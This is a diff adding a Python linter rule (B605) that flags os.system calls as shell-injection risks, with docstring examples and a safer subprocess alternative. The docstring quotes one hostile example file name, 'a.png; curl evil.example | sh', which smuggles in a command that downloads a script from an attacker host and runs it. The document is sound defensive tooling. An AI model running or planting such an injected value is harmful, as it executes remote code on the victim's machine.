@@ -1,0 +1,70 @@
+"""A command run by a function that always uses the shell, such as `os.system`.
+
+The shell reads the whole text as a script. A file called `a.png; curl evil.example | sh` is then two commands, and the
+second one belongs to whoever named the file.
+
+## Bad
+
+    import os
+
+    def compress(name):
+        os.system("gzip " + name)
+    #   ^^^^^^^^^ Starting a process with a shell, possible injection detected, security issue.
+
+    def clear():
+        os.system("clear")
+    #   ^^^^^^^^^ Starting a process with a shell: Seems safe
+
+## Good
+
+    import subprocess
+
+    def compress(name):
+        subprocess.run(["gzip", "--", name], check=True)
+
+## When to suppress
+
+Where the command is written out in full in the code and no value goes into it.
+
+## References
+
+- https://docs.python.org/3/library/subprocess.html#replacing-os-system
+- https://docs.python.org/3/library/os.html#os.system
+- https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
+"""
+
+from collections.abc import Iterator
+
+from posse_checks.finding import Cwe, Finding
+from posse_checks.rule import HIGH, LOW, rule
+from posse_checks.rules.shell_functions import DEFAULTS, SECTION, listed_under
+from posse_checks.syntax import is_string
+from posse_checks.views import Call
+
+SEEMS_SAFE = (
+    "Starting a process with a shell: Seems safe, but may be changed in the future, consider rewriting without shell"
+)
+
+
+@rule(
+    "B605",
+    "start_process_with_a_shell",
+    HIGH,
+    HIGH,
+    Cwe.OS_COMMAND_INJECTION,
+    called=listed_under("shell"),
+    section=SECTION,
+    defaults=DEFAULTS,
+)
+def check(call: Call) -> Iterator[Finding]:
+    """Report commands that go to a shell: gravely, unless the command is a plain string."""
+    if not call.arguments:
+        return
+    is_plain = is_string(call.node.args[0])
+    yield call.finding(
+        SEEMS_SAFE
+        if is_plain
+        else "Starting a process with a shell, possible injection detected, security issue.",
+        severity=LOW if is_plain else HIGH,
+        span=call.span,
+    )
